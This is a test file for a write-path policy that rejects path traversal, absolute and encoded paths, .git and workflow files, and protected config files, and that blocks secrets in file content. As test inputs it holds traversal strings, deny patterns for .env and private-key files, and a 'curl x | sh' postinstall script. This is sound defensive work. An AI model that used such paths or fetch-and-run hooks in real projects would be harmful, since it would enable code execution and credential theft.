import { describe, expect, it } from "vitest";
import {
  checkWriteBatch,
  checkWriteFile,
  checkWritePath,
  DEFAULT_PATH_POLICY,
  globMatch,
  type PathPolicy,
} from "../../../src/core/paths.ts";

const policy = (over: Partial<PathPolicy> = {}): PathPolicy => ({
  ...DEFAULT_PATH_POLICY,
  denied: [],
  ...over,
});

function rejected(path: string, p: PathPolicy = policy()): string {
  const result = checkWritePath(path, p);
  if (result.ok) throw new Error(`"${path}" was accepted as ${result.path}`);
  return result.reason;
}

describe("checkWritePath", () => {
  it.each([
    ["src/app.ts", "src/app.ts"],
    ["./a//b", "a/b"],
    ["a/./b/", "a/b"],
    ["docs/.gitkeep", "docs/.gitkeep"],
    ["x/.github/workflows/ci.yml", "x/.github/workflows/ci.yml"],
    ["100%.txt", "100%.txt"],
    ["naïve/文件.md", "naïve/文件.md"],
  ])("accepts %s as %s", (path, normalised) => {
    expect(checkWritePath(path, policy())).toEqual({ ok: true, path: normalised });
  });

  it.each([
    ["", /empty/],
    ["   ", /empty/],
    [".", /names no file/],
    ["./", /names no file/],
  ])("rejects %j", (path, reason) => {
    expect(rejected(path)).toMatch(reason);
  });

  describe("traversal in every spelling", () => {
    it.each([
      ["..", /'\.\.'/],
      ["../x", /'\.\.'/],
      ["a/../../x", /'\.\.'/],
      ["a/b/..", /'\.\.'/],
      ["a/../b", /'\.\.'/],
      ["/etc/passwd", /absolute/],
      ["//server/share", /absolute/],
      ["C:\\x", /absolute/],
      ["c:/windows/x", /absolute/],
      ["\\\\server\\share", /absolute/],
      ["..\\x", /backslash/],
      ["a\\b", /backslash/],
      ["%2e%2e/x", /percent-encoded/],
      ["%2E%2E%2Fx", /percent-encoded/],
      ["a%2fb", /percent-encoded/],
      ["a%5cb", /percent-encoded/],
      ["%252e%252e/x", /percent-encoded/],
      ["%c0%ae%c0%ae/x", /percent-encoded/],
      ["a\u0000b", /control/],
      ["a\nb", /control/],
      ["a\u007fb", /control/],
      ["a\u200Bb", /invisible/],
      ["evil\u202Etxt.ts", /invisible/],
    ])("%j", (path, reason) => {
      expect(rejected(path)).toMatch(reason);
    });
  });

  describe(".git and workflows", () => {
    it.each([
      ".git/config",
      ".GIT/HEAD",
      "x/.git/y",
      ".git",
      "sub/.Git/hooks/pre-commit",
      ".git./config",
      "GIT~1/config",
    ])("%s is git metadata", (path) => {
      expect(rejected(path)).toMatch(/\.git directory/);
    });

    it.each([
      ".github/workflows/ci.yml",
      ".GitHub/Workflows/x",
      "./.github//workflows/deep/x.yml",
      ".github/workflows",
    ])("%s is a workflow", (path) => {
      expect(rejected(path)).toMatch(/workflow/);
    });

    it("other .git-like names are fine", () => {
      expect(checkWritePath(".gitignore", policy()).ok).toBe(true);
      expect(checkWritePath("a/.github/x.yml", policy()).ok).toBe(true);
      expect(checkWritePath("docs/git/x.md", policy()).ok).toBe(true);
    });
  });

  describe("length", () => {
    it("rejects a 300-character name", () => {
      expect(rejected(`${"a".repeat(300)}.ts`)).toMatch(/longer than 255 bytes|limit is 255/);
    });

    it("rejects a long segment even under a raised path limit", () => {
      expect(rejected(`src/${"é".repeat(130)}`, policy({ maxPathLength: 4096 }))).toMatch(
        /longer than 255 bytes/,
      );
    });

    it("rejects paths over the limit and accepts at the limit", () => {
      const at = `${"d/".repeat(50)}${"x".repeat(155)}`;
      expect(at.length).toBe(255);
      expect(checkWritePath(at, policy()).ok).toBe(true);
      expect(rejected(`${at}x`)).toMatch(/limit is 255/);
    });
  });

  describe("allowed and denied globs", () => {
    it("accepts only inside allowed globs", () => {
      const p = policy({ allowed: ["src/**", "test/**/*.test.ts", "README.md"] });
      expect(checkWritePath("src/a/b.ts", p).ok).toBe(true);
      expect(checkWritePath("test/unit/x.test.ts", p).ok).toBe(true);
      expect(checkWritePath("test/x.test.ts", p).ok).toBe(true);
      expect(checkWritePath("README.md", p).ok).toBe(true);
      expect(rejected("package.json", p)).toMatch(/outside the allowed paths \(src\/\*\*/);
      expect(rejected("test/helper.ts", p)).toMatch(/outside/);
      expect(rejected("Src/a.ts", p)).toMatch(/outside/);
    });

    it("denied wins over allowed, case-insensitively", () => {
      const p = policy({ denied: ["**/.env", "secrets/**", "*.lock"] });
      expect(rejected(".env", p)).toMatch(/denied pattern "\*\*\/\.env"/);
      expect(rejected("app/.ENV", p)).toMatch(/denied/);
      expect(rejected("Secrets/a.txt", p)).toMatch(/denied/);
      expect(rejected("yarn.lock", p)).toMatch(/denied/);
      expect(checkWritePath("sub/yarn.lock", p).ok).toBe(true);
    });

    it("the default policy denies keys and env files", () => {
      for (const path of [
        ".env",
        "config/.env",
        "certs/server.pem",
        "deploy/id_rsa",
        "CODEOWNERS",
      ]) {
        expect(checkWritePath(path).ok).toBe(false);
      }
      expect(checkWritePath("src/index.ts").ok).toBe(true);
    });
  });
});

describe("globMatch", () => {
  it.each([
    ["**", "a", true],
    ["**", "a/b/c", true],
    ["**", ".hidden/x", true],
    ["*.md", "README.md", true],
    ["*.md", "docs/x.md", false],
    ["**/*.md", "docs/x.md", true],
    ["**/*.md", "x.md", true],
    ["src/**", "src", true],
    ["src/**", "src/a/b", true],
    ["src/**", "srcx/a", false],
    ["a/**/b", "a/b", true],
    ["a/**/b", "a/x/y/b", true],
    ["a/**/b", "a/xb", false],
    ["?.ts", "a.ts", true],
    ["?.ts", "ab.ts", false],
    ["a?b", "a/b", false],
    ["*", "a/b", false],
    ["file.(x)+[y]", "file.(x)+[y]", true],
    ["a.b", "axb", false],
  ])("%s ~ %s → %s", (glob, path, expected) => {
    expect(globMatch(glob, path)).toBe(expected);
  });
});

describe("checkWriteFile and checkWriteBatch", () => {
  it("rejects a file over the size limit", () => {
    const result = checkWriteFile(
      { path: "a.txt", content: "x".repeat(11) },
      policy({ maxFileBytes: 10 }),
    );
    expect(result).toEqual({
      ok: false,
      reason: expect.stringMatching(/11 bytes; the limit is 10/),
    });
  });

  it("counts UTF-8 bytes, not characters", () => {
    expect(
      checkWriteFile({ path: "a.txt", content: "é".repeat(6) }, policy({ maxFileBytes: 10 })).ok,
    ).toBe(false);
    expect(
      checkWriteFile({ path: "a.bin", content: new Uint8Array(10) }, policy({ maxFileBytes: 10 }))
        .ok,
    ).toBe(true);
  });

  it("rejects content with a secret, naming the kind and line but not the secret", () => {
    const token = `ghp_${"A1b2C3d4E5".repeat(4)}`;
    const result = checkWriteFile({
      path: "src/config.ts",
      content: `const a = 1;\nconst t = "${token}";`,
    });
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.reason).toMatch(/github_token on line 2/);
      expect(result.reason).not.toContain(token);
    }
  });

  it("rejects the configured literal", () => {
    const result = checkWriteFile({ path: "a.txt", content: "key=sk-inst-secret-123" }, policy(), [
      "sk-inst-secret-123",
    ]);
    expect(result.ok).toBe(false);
  });

  it("accepts a good batch with normalised paths", () => {
    expect(
      checkWriteBatch(
        [
          { path: "./src//a.ts", content: "a" },
          { path: "src/b.ts", content: "b" },
        ],
        policy(),
      ),
    ).toEqual({
      ok: true,
      files: [
        { path: "src/a.ts", content: "a" },
        { path: "src/b.ts", content: "b" },
      ],
    });
  });

  it("reports every problem at once: count, paths, duplicates (also by case), total size", () => {
    const result = checkWriteBatch(
      [
        { path: "a.txt", content: "12345" },
        { path: "./a.txt", content: "1" },
        { path: "A.TXT", content: "1" },
        { path: ".git/config", content: "x" },
        { path: "b.txt", content: "123456" },
      ],
      policy({ maxFiles: 4, maxTotalBytes: 10 }),
    );
    expect(result.ok).toBe(false);
    if (result.ok) return;
    const reasons = result.errors.map((e) => e.reason).join("\n");
    expect(reasons).toMatch(/5 files in one change; the limit is 4/);
    expect(reasons).toMatch(/written twice.*"a\.txt"/);
    expect(result.errors.filter((e) => /written twice/.test(e.reason))).toHaveLength(2);
    expect(reasons).toMatch(/\.git directory/);
    expect(reasons).toMatch(/11 bytes in all; the limit is 10/);
  });
});

describe("protected files", () => {
  it.each([
    ".github/dependabot.yml",
    ".github/actions/setup/action.yml",
    ".github/practical.yml",
    "tools/deploy/action.yaml",
    ".npmrc",
    "packages/web/.npmrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    "bunfig.toml",
    "Makefile",
    "lib/makefile",
    ".husky/pre-commit",
    ".devcontainer/devcontainer.json",
    ".vscode/tasks.json",
    ".gitmodules",
    ".env.local",
  ])("refuses %s by default, saying how it could be allowed", (path) => {
    expect(rejected(path)).toMatch(/is protected: .*paths\.protected_allowed/);
  });

  it("allows a protected file the repository allows and the plan names", () => {
    const allowed = policy({ protectedAllowed: [".github/actions/**"], plan: "" });
    expect(rejected(".github/actions/setup/action.yml", allowed)).toMatch(/is protected/);
    const planned = { ...allowed, plan: "T3 adds .github/actions/setup/action.yml" };
    expect(checkWritePath(".github/actions/setup/action.yml", planned).ok).toBe(true);
    expect(checkWritePath(".npmrc", planned).ok).toBe(false);
  });

  const pkg = (scripts?: Record<string, string>) =>
    JSON.stringify({ name: "x", version: "1.0.0", ...(scripts ? { scripts } : {}) });

  it("refuses a package.json write that changes its scripts, not one that keeps them", () => {
    const baseline = new Map([["package.json", pkg({ test: "node --test" })]]);
    const p = policy({ baseline });
    const refused = checkWriteFile(
      { path: "package.json", content: pkg({ test: "node --test", postinstall: "curl x | sh" }) },
      p,
    );
    expect(refused.ok ? "" : refused.reason).toMatch(/changes the package's scripts/);
    const kept = JSON.stringify({ ...JSON.parse(pkg({ test: "node --test" })), version: "1.1.0" });
    expect(checkWriteFile({ path: "package.json", content: kept }, p).ok).toBe(true);
    // A new package.json with scripts, and one that is not JSON, are protected too.
    expect(checkWriteFile({ path: "pkg/package.json", content: pkg({ x: "y" }) }, p).ok).toBe(
      false,
    );
    expect(checkWriteFile({ path: "package.json", content: "{" }, p).ok).toBe(false);
  });
});
